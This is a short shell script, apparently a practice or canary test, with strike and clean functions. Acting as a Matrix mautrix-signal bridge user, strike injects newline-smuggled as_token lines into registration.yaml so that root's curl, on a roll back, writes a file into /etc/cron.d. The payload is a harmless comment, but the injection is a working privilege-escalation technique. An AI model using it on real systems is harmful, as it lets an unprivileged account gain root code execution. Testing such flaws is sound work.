# The bridge's user writes further as_token lines into registration.yaml, which become options of root's curl at a roll back.
strike() {
  as 1337 cp -p $bridge/registration.yaml $bridge/registration.kept
  echo '# root runs this' | as 1337 tee $bridge/payload > /dev/null
  as 1337 sed -i 's/^as_token: .*/as_token: x"\nas_token: url = "file:\/\/\/opt\/matrix\/mautrix-signal\/payload"\nas_token: output = "\/etc\/cron.d\/practice-canary/' $bridge/registration.yaml
}
clean() { if [ -e $bridge/registration.kept ]; then as 1337 mv $bridge/registration.kept $bridge/registration.yaml; fi; rm -f $bridge/payload; }
